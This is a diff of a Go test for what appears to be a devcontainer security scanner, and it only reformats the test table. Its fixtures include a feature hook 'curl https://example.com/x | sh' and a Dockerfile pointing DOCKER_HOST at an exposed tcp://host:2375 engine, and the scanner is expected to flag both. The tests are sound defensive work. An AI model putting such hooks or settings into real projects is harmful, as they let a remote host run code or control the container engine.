@@ -44,15 +44,19 @@ func TestRightsOfDockerfilesAndHooks(t *testing.T) {
 		files devcontainer.Memory
 		want  string
 	}{
-		"the engine by ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
-			".devcontainer/Dockerfile": "FROM debian:13" + digest + "\nENV DOCKER_HOST=tcp://host:2375\n"}, "SBX401"},
+		"the engine by ENV": {
+			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
+				".devcontainer/Dockerfile": "FROM debian:13" + digest + "\nENV DOCKER_HOST=tcp://host:2375\n"}, "SBX401"},
 		"an empty ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
 			".devcontainer/Dockerfile": "FROM debian:13" + digest + "\nENV DOCKER_HOST=\n"}, ""},
-		"a stage that is left behind": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
-			".devcontainer/Dockerfile": "FROM debian:13" + digest + " AS a\nENV DOCKER_HOST=tcp://host:2375\nFROM debian:13" + digest + "\n"}, ""},
-		"a Feature's hook": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"image": "debian:13@sha256:` + strings.Repeat("0", 64) + `", "features": {"./a": {}}}`,
-			".devcontainer/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", "postCreateCommand": "curl https://example.com/x | sh"}`,
-			".devcontainer/a/install.sh":                ""}, "SBX608"},
+		"a stage that is left behind": {
+			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
+				".devcontainer/Dockerfile": "FROM debian:13" + digest + " AS a\nENV DOCKER_HOST=tcp://host:2375\nFROM debian:13" + digest + "\n"}, ""},
+		"a Feature's hook": {
+			devcontainer.Memory{".devcontainer/devcontainer.json": `{"image": "debian:13@sha256:` + strings.Repeat("0", 64) +
+				`", "features": {"./a": {}}}`,
+				".devcontainer/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", "postCreateCommand": "curl https://example.com/x | sh"}`,
+				".devcontainer/a/install.sh":                ""}, "SBX608"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if found := ids(t, c.files); found != c.want {
